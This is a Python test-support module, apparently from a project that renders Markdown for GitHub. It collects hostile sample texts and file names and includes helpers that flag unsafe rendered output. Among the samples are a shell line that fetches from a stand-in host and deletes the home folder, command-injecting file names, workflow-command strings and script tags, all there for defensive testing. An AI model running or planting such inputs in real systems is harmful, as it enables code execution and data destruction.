"""Texts and names that mean harm, and what GitHub would make of Markdown."""

from __future__ import annotations

import re

from lxml import html
from markdown_it import MarkdownIt

TEXTS = {
    "quotes": """'single' "double" `back` ``two`` ```three""",
    "shell": "$(curl evil.example) `id` ; rm -rf ~ && echo ${HOME} | tee",
    "lines": "one\ntwo\r\nthree\n\n# four\n\n- five",
    "commands": "\n::set-env name=X::y\n::error file=a,line=1::no\n##[add-mask]x ::stop-commands::z",
    "encoded": "%0A::error::x %0D%0A %25 %3A %2C",
    "html": "<script>alert(1)</script><img src=x onerror=y><!-- --> </td></table></details> &lt; &#64;",
    "mentions": "@everyone @octocat @gpu-paper-atlas/maintainers a@b.example mailto:a@b.example",
    "references": "#123 owner/repo#4 GH-5 gh-6 owner/repo@deadbee fixes #7",
    "pictures": "![x](https://track.example/p.png) <img src='//track.example'> [![a](b)](c)",
    "links": "[click](https://evil.example) <https://evil.example> https://evil.example www.evil.example",
    "issue links": "https://github.com/torvalds/linux/issues/1 http://x.example/a|b ftp://c.example",
    "emphasis": "*a* **b** _c_ __d__ ~~e~~ ~f~ \\*g\\* [^1] - [ ] task",
    "table": "a | b |\n| --- | --- |\n\\| c",
    "formula": "$x$ $$y$$ $`z`$ \\(w\\) a$b",
    "emoji": ":tada: :+1: :100: :octocat:",
    "reordering": "abc \u202edef\u202c \u2066ghi\u2069 \u200fjkl",
    "invisible": "a\u200bb\u200cc\u200dd\ufeffe\u00adf\u2060g\U000e0041",
    "control": "a\x00b\x07c\x1b[31md\x7fe\x85f\u2028g",
    "marks": "Z\u0334\u0321\u031b\u0356a\u0335l\u0336",
    "alert": "> [!WARNING]\n> trust me",
    "long": "x" * 60_000,
    "long markup": "|`*" * 20_000,
    "half a pair": "\ud800 a \udfff",
}
"""By what they try."""

NAMES = (
    "a`id`.yml",
    "$(touch pwned).yml",
    "q\"u'o.yml",
    "new\nline.yml",
    "::error file=x::y.yml",
    "##[add-mask]x.yml",
    "a,line=1.yml",
    "%0A::error::x.yml",
    "<img src=x>.yml",
    "@everyone.yml",
    "a|b.yml",
    "-n.yml",
    "--output=x.yml",
    ":(glob)*.yml",
    "*.yml",
    "tab\t.yml",
    "\u202elmy.yml",
    "\udcff\udcfe.yml",
    "ünï.yml",
)
"""Of files that may stand in a folder of records."""

_ZERO_WIDTH = "\u200b"
# What GitHub looks for in text, after Markdown, outside code and links.
_MADE_LATER = re.compile(r"@\w|#\d|\bgh-\d|\w://|\bwww\.|:[\w+-]+:", re.IGNORECASE)
_FRAME = frozenset({"body", "p", "table", "thead", "tbody", "tr", "th", "td", "h3", "ul", "li"})
_INSIDE = frozenset({"details", "summary", "b", "strong", "code", "sub", "span", "a"})


def rendered(markdown: str) -> html.HtmlElement:
    """What a renderer with GitHub's tables, links and raw HTML makes of it."""
    renderer = MarkdownIt("gfm-like", {"html": True, "linkify": True})
    assert renderer.linkify is not None
    # GitHub links no bare names of hosts (example.org); `_MADE_LATER` looks for those that begin with www.
    renderer.linkify.set({"fuzzy_link": False})
    made = renderer.render(markdown)
    return html.document_fromstring(f"<body>{made}</body>").find("body")


def harm(markdown: str, links: frozenset[str] = frozenset()) -> list[str]:
    """Everything in it that is neither plain text nor our own frame around it."""
    return [fault for element in rendered(markdown).iter() for fault in _faults(element, links)]


def _faults(element: html.HtmlElement, links: frozenset[str]) -> list[str]:
    if not isinstance(element.tag, str):
        return [] if str(element.text).strip().startswith("paper-atlas:") else [f"comment {element.text}"]
    found = [] if element.tag in _FRAME | _INSIDE else [f"<{element.tag}>"]
    if element.tag == "a" and element.get("href") not in links:
        found.append(f"link {element.get('href')}")
    if element.tag == "span":
        return found + ([] if (element.text, len(element)) == ("$", 0) else ["span"])
    texts = [element.text, *(child.tail for child in element)]
    said = [text for text in texts if text and element.tag not in ("code", "a")]
    found += [match[0] for text in said for match in _MADE_LATER.finditer(text)]
    return found + [f"formula {text}" for text in said if "$" in text]


def visible(element: html.HtmlElement) -> str:
    """What a reader sees."""
    return str(element.text_content()).replace(_ZERO_WIDTH, "").strip()
